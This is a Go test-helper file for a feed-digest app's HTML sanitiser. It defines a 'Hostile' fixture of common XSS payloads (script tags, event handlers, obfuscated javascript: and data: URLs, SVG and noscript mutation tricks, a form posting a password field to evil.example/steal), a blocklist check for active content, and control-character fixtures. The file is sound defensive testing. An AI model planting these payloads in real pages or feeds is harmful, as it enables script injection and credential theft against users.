// Package htmltest holds what a hostile feed writes and the checks that
// none of it reaches what we make from it, shared by the tests of ingest
// (which cleans an entry's texts when a poll stores it) and of render
// (which shows them on pages, in the Atom feed and in email).
package htmltest

import (
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/PuerkitoBio/goquery"

	"feeddigest/domain"
)

// RelSafe is the rel every link to another site carries: ours, and a
// feed's once sanitised.
const RelSafe = "noopener noreferrer"

// Hostile packs the usual attacks between two benign sentences.
const Hostile = `<p>Before the storm.</p>
<script>alert(1)</script>
<img src="x" onerror="alert(2)">
<body onload="alert(3)">
<p onclick="alert(4)">Click text</p>
<a href="javascript:alert(5)">js link</a>
<a href="JaVaScRiPt:alert(6)">mixed case</a>
<a href="jav&#x61;script:alert(7)">entity link</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(8)">decimal entities</a>
<a href="java&#x09;script:alert(9)">tab</a>
<a href=" javascript:alert(10)">leading space</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">data link</a>
<a href="vbscript:msgbox(12)">vb</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTMpPg==">
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert(14)</script>"></iframe>
<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(15)">Go</button></form>
<svg onload="alert(16)"><circle r="1"/></svg>
<math><mtext><script>alert(17)</script></mtext></math>
<style>body{background:url(javascript:alert(18))}</style>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<meta http-equiv="refresh" content="0;url=javascript:alert(19)">
<link rel="stylesheet" href="https://evil.example/x.css">
<base href="https://evil.example/">
<div style="background:url(javascript:alert(20))">styled</div>
<noscript><p title="</noscript><img src=x onerror=alert(21)>"></noscript>
<p>After the storm.</p>`

// CheckSafe fails the test when out carries anything active, and returns
// the parsed document for further checks.
func CheckSafe(t *testing.T, out string) *goquery.Document {
	t.Helper()
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	lower := strings.ToLower(out)
	for _, bad := range []string{"<script", "javascript:", "vbscript:", "data:", "alert(", "<iframe", "<form", "<svg", "<object", "<embed", "<math", "<base", "http-equiv"} {
		if strings.Contains(lower, bad) {
			t.Errorf("output contains %q", bad)
		}
	}
	doc.Find("*").Each(func(_ int, s *goquery.Selection) {
		for _, a := range s.Nodes[0].Attr {
			if strings.HasPrefix(strings.ToLower(a.Key), "on") {
				t.Errorf("<%s> keeps event handler %s=%q", s.Nodes[0].Data, a.Key, a.Val)
			}
		}
	})
	if n := doc.Find("style").Length(); n > 1 {
		t.Errorf("%d <style> elements, want at most our own", n)
	}
	return doc
}

// Parse reads s as an HTML document, failing the test when it cannot.
func Parse(t testing.TB, s string) *goquery.Document {
	t.Helper()
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(s))
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

// Dirt is what a feed can put in any text: C0 controls (a backspace, an
// escape, a bell), DEL, a C1 control, noncharacters (U+FFFE, U+FFFF,
// U+FDD0, the last of plane 16) raw and as character references.
// (Invalid UTF-8 becomes U+FFFD, as it does everywhere.)
const Dirt = "\x01\x08\x1b\x07\x7f\u009b\ufffe\uffff\ufdd0\U0010ffff&#1;&#x1b;&#xFFFE;&#xffff;&#xFDD0;"

// CheckNoDirt fails the test when out (a page, a feed, an email part)
// holds invalid UTF-8 or a character that is no text: a control but the
// white space HTML knows (tab, newline, form feed, carriage return), or a
// noncharacter.
func CheckNoDirt(t *testing.T, what string, out []byte) {
	t.Helper()
	if !utf8.Valid(out) {
		t.Errorf("%s is not valid UTF-8", what)
	}
	for i, r := range string(out) {
		if notText(r) {
			t.Errorf("%s carries %U at %d: %q", what, r, i, out[max(0, i-40):min(len(out), i+40)])
			return
		}
	}
}

// notText says whether r is a character that is not text in a page, a
// feed or an email (see CheckNoDirt).
func notText(r rune) bool {
	switch r {
	case '\t', '\n', '\f', '\r':
		return false
	}
	return unicode.IsControl(r) || unicode.Is(unicode.Noncharacter_Code_Point, r)
}

// DirtyEntries are entries of the feed https://a.example/feed, published
// at published, whose every text carries Dirt (titles, authors, content:
// text and attributes, a summary, an enclosure), one with invalid UTF-8,
// and one whose words are parted by the two controls that are white space.
func DirtyEntries(published time.Time) []domain.Entry {
	return []domain.Entry{
		{Title: "Title" + Dirt + " one", Author: "Au" + Dirt + "thor", Link: "https://a.example/1", Published: published,
			Content: "<p title=\"t" + Dirt + "\">Body" + Dirt + " text</p><pre>pre" + Dirt + "</pre><img src=\"https://a.example/i.png\" alt=\"alt" + Dirt + "\">" +
				"<a href=\"mailto:ad\ufffe\ufdd0a@example.org\">Mail</a>",
			Enclosures: []domain.Enclosure{{URL: "https://a.example/file" + "%01" + ".bin"}}},
		{Link: "https://a.example/2", Summary: "Untitled" + Dirt + " summary words", Published: published},
		{Title: "Invalid \xff UTF-8", Link: "https://a.example/3", Content: "<p>bad \xfe\xff</p>", Published: published},
		{Title: "Parted", Link: "https://a.example/4", Content: "<p>words\vparted\u0085apart</p>", Published: published},
	}
}
